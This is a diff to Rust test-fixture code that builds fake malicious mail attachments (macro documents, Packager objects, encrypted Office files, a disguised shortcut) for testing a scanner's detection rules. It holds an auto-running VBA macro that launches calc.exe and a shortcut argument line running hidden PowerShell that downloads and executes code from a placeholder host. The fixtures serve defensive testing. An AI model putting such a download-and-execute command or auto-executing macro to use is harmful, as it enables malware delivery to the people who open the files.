@@ -498,10 +498,9 @@ pub fn ar_bsd(entries: &[(&str, &[u8])]) -> Vec<u8> {
     out
 }
 
-/// An RTF document with one embedded Packager object carrying `data` as
-/// the file `name` (the OLE1 layout Word writes, hex-encoded in
-/// `\objdata`, 64 digits a line).
-pub fn rtf_with_package(name: &str, data: &[u8]) -> Vec<u8> {
+/// A Windows Packager object's native data (the `Ole10Native` layout,
+/// without its leading size): label, source path, temporary path, file.
+pub fn packager_native(name: &str, data: &[u8]) -> Vec<u8> {
     let mut native = vec![2u8, 0];
     for s in [name, &format!("C:\\Users\\a\\{name}")] {
         native.extend_from_slice(s.as_bytes());
@@ -513,6 +512,120 @@ pub fn rtf_with_package(name: &str, data: &[u8]) -> Vec<u8> {
     native.extend_from_slice(tmp.as_bytes());
     native.extend_from_slice(&(data.len() as u32).to_le_bytes());
     native.extend_from_slice(data);
+    native
+}
+
+/// MS-OVBA compression with literal tokens only: valid for any reader,
+/// just not smaller. Chunks of 3640 bytes so each fits a compressed chunk
+/// (a literal-only chunk carries one flag byte per eight bytes).
+pub fn ovba_compress(data: &[u8]) -> Vec<u8> {
+    let mut out = vec![0x01];
+    for chunk in data.chunks(3640) {
+        let mut body = Vec::new();
+        for group in chunk.chunks(8) {
+            body.push(0);
+            body.extend_from_slice(group);
+        }
+        let header = 0x8000u16 | 0x3000 | (body.len() as u16 + 2 - 3);
+        out.extend_from_slice(&header.to_le_bytes());
+        out.extend_from_slice(&body);
+    }
+    out
+}
+
+type Cf = cfb::CompoundFile<std::io::Cursor<Vec<u8>>>;
+
+fn put_stream(cf: &mut Cf, path: &str, data: &[u8]) {
+    use std::io::Write;
+    cf.create_stream(path)
+        .expect("stream")
+        .write_all(data)
+        .expect("write");
+}
+
+/// A VBA project's storage under `root` ("/Macros" in a .doc, "" in an
+/// OOXML vbaProject.bin): `_VBA_PROJECT`, `dir`, and each module as a
+/// little p-code followed by its compressed source, as Office writes them.
+fn put_vba(cf: &mut Cf, root: &str, modules: &[(&str, &str)]) {
+    cf.create_storage_all(format!("{root}/VBA"))
+        .expect("storage");
+    put_stream(
+        cf,
+        &format!("{root}/VBA/_VBA_PROJECT"),
+        &[0xcc, 0x61, 0xff, 0xff, 0, 0, 0],
+    );
+    put_stream(
+        cf,
+        &format!("{root}/VBA/dir"),
+        &ovba_compress(b"\x01\x00\x04\x00\x00\x00\x01\x00\x00\x00"),
+    );
+    for (name, source) in modules {
+        let mut stream = vec![0x01, 0x16, 0x03, 0x00];
+        stream.extend_from_slice(&[0u8; 60]);
+        stream.extend_from_slice(&ovba_compress(source.as_bytes()));
+        put_stream(cf, &format!("{root}/VBA/{name}"), &stream);
+    }
+}
+
+fn new_cf() -> Cf {
+    cfb::CompoundFile::create(std::io::Cursor::new(Vec::new())).expect("cfb in memory")
+}
+
+fn finish_cf(mut cf: Cf) -> Vec<u8> {
+    cf.flush().expect("flush");
+    cf.into_inner().into_inner()
+}
+
+/// A Word-like compound file: a WordDocument stream, a VBA project with
+/// the given modules, and optionally a Packager object carrying a file.
+pub fn ole_document(modules: &[(&str, &str)], package: Option<(&str, &[u8])>) -> Vec<u8> {
+    let mut cf = new_cf();
+    put_stream(
+        &mut cf,
+        "/WordDocument",
+        &[0xec, 0xa5, 0xc1, 0x00, 1, 2, 3, 4],
+    );
+    put_vba(&mut cf, "/Macros", modules);
+    if let Some((name, data)) = package {
+        cf.create_storage_all("/ObjectPool/_1234567890")
+            .expect("storage");
+        let native = packager_native(name, data);
+        let mut stream = (native.len() as u32).to_le_bytes().to_vec();
+        stream.extend_from_slice(&native);
+        put_stream(&mut cf, "/ObjectPool/_1234567890/\u{1}Ole10Native", &stream);
+    }
+    finish_cf(cf)
+}
+
+/// `vbaProject.bin` as an OOXML document (docm, xlsm) carries it.
+pub fn vba_project(modules: &[(&str, &str)]) -> Vec<u8> {
+    let mut cf = new_cf();
+    put_stream(
+        &mut cf,
+        "/PROJECT",
+        b"ID=\"{00000000-0000-0000-0000-000000000000}\"\r\nDocument=ThisDocument/&H00000000\r\n",
+    );
+    put_vba(&mut cf, "", modules);
+    finish_cf(cf)
+}
+
+/// A password-protected OOXML document as Office stores it: a compound
+/// file with EncryptionInfo and EncryptedPackage (here random bytes).
+pub fn encrypted_office() -> Vec<u8> {
+    let mut cf = new_cf();
+    put_stream(&mut cf, "/EncryptionInfo", &[4, 0, 4, 0, 0x40, 0, 0, 0]);
+    let noise: Vec<u8> = (0..2048u32)
+        .map(|i| (i.wrapping_mul(2654435761) >> 13) as u8)
+        .collect();
+    put_stream(&mut cf, "/EncryptedPackage", &noise);
+    finish_cf(cf)
+}
+
+/// An RTF document with one embedded Packager object carrying `data` as
+/// the file `name` (the OLE1 layout Word writes, hex-encoded in
+/// `\objdata`, 64 digits a line).
+pub fn rtf_with_package(name: &str, data: &[u8]) -> Vec<u8> {
+    let native = packager_native(name, data);
     let mut ole = Vec::new();
     ole.extend_from_slice(&0x0501u32.to_le_bytes());
     ole.extend_from_slice(&2u32.to_le_bytes());
@@ -783,7 +896,7 @@ pub fn all() -> Vec<Sample> {
         sample("js_dropper.eml", Mail, message("Order", "order", &[attachment("application/octet-stream", "order.js", JS_DROPPER.as_bytes())]), Reject, &["Script_Dropper_WSH"], "JScript dropper"),
         sample("lnk.eml", Mail, message("Doc", "doc", &[attachment("application/octet-stream", "document.lnk", &fake_lnk())]), Reject, &["LNK_Runs_Shell"], "shortcut that starts PowerShell"),
         sample("iso.eml", Mail, message("Disk", "disk", &[attachment("application/octet-stream", "files.iso", &fake_iso())]), Quarantine, &["Container_ISO_Image", "UNOPENABLE"], "ISO disk image"),
-        sample("docm_autoopen.eml", Mail, message("Doc", "doc", &[attachment("application/vnd.ms-word.document.macroEnabled.12", "report.docm", &zip(&[("[Content_Types].xml", b"<Types/>"), ("word/document.xml", b"<w:document/>"), ("word/vbaProject.bin", &fake_vba_project())]))]), Quarantine, &["Office_VBA_AutoExec"], "Word document with an AutoOpen macro"),
+        sample("docm_autoopen.eml", Mail, message("Doc", "doc", &[attachment("application/vnd.ms-word.document.macroEnabled.12", "report.docm", &zip(&[("[Content_Types].xml", b"<Types/>"), ("word/document.xml", b"<w:document/>"), ("word/vbaProject.bin", &vba_project(&[("ThisDocument", "Attribute VB_Name = \"ThisDocument\"\r\nSub Document_Open()\r\n  MsgBox \"harmless\"\r\nEnd Sub\r\n")]))]))]), Quarantine, &["Office_VBA_AutoExec_Source"], "Word document with a Document_Open macro (compressed source, read decompressed)"),
         sample("encrypted_zip.eml", Mail, message("Secret", "password is 1234", &[attachment("application/zip", "secret.zip", &raw_zip(&[RawEntry { local_name: "invoice.exe", central_name: "invoice.exe", data: b"\x01\x02\x03encrypted-bytes", encrypted: true, reuse_local_of: None }]))]), Quarantine, &["ENCRYPTED"], "password-protected zip"),
         sample("corrupt_zip.eml", Mail, message("Broken", "broken", &[attachment("application/zip", "broken.zip", &zip(&[("a.txt", &[b'a'; 4000])])[..60])]), Quarantine, &["UNOPENABLE"], "truncated zip"),
         sample("bomb_depth.zip", File, nested_zip(20, b"deep"), Quarantine, &["LIMIT_DEPTH"], "zip nested 21 deep"),
@@ -816,6 +929,10 @@ pub fn all() -> Vec<Sample> {
         sample("eicar_html_smuggling.eml", Mail, message("Invoice", "open the invoice", &[attachment("text/html", "invoice.html", &html_smuggling(&zip(&[("eicar.com", &e)])))]), Reject, &["EICAR_Test_File"], "EICAR in a zip smuggled in an HTML page as split base64"),
         sample("eicar_data_uri.eml", Mail, message("Page", "open the page", &[attachment("text/html", "page.html", format!("<html><body><a download=\"a.zip\" href=\"data:application/zip;base64,{}\">get</a></body></html>", { use base64::Engine as _; base64::engine::general_purpose::STANDARD.encode(zip(&[("eicar.com", &e)])) }).as_bytes())]), Reject, &["EICAR_Test_File"], "EICAR in a zip in a data: URI link"),
         sample("lnk_powershell.eml", Mail, message("Invoice", "open the invoice", &[attachment("application/octet-stream", "Invoice.pdf.lnk", &lnk("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "-w hidden -ep bypass -c iex (iwr http://example.invalid/a)", "%TEMP%"))]), Reject, &["LNK_Runs_Shell", "DOUBLE_EXTENSION"], "a shortcut named like a PDF that runs PowerShell; its target and arguments are extracted as text"),
+        sample("doc_vba_autoopen.eml", Mail, message("Report", "see report", &[attachment("application/msword", "report.doc", &ole_document(&[("Module1", "Attribute VB_Name = \"Module1\"\r\nSub AutoOpen()\r\n  Shell \"calc.exe\"\r\nEnd Sub\r\n")], None))]), Quarantine, &["Office_VBA_AutoExec_Source"], "a .doc whose compressed VBA source has AutoOpen (read decompressed)"),
+        sample("eicar_doc_package.eml", Mail, message("Report", "see report", &[attachment("application/msword", "report.doc", &ole_document(&[], Some(("eicar.com", &e))))]), Reject, &["EICAR_Test_File"], "EICAR as a Packager object inside a .doc"),
+        sample("encrypted_docx.eml", Mail, message("Salary", "password in the next mail", &[attachment("application/vnd.openxmlformats-officedocument.wordprocessingml.document", "salary.docx", &encrypted_office())]), Quarantine, &["ENCRYPTED"], "password-protected Word document"),
+        sample("corrupt.doc", File, ole_document(&[], None)[..700].to_vec(), Quarantine, &["UNOPENABLE"], "compound file cut off after its header"),
         sample("duplicate_attachments.eml", Mail, message("Twice", "twice", &[attachment("application/pdf", "a.pdf", &clean_pdf()), attachment("application/pdf", "b.pdf", &clean_pdf())]), Accept, &[], "the same PDF twice: scanned once"),
     ];
     // Every message sample also with bare LF line endings.
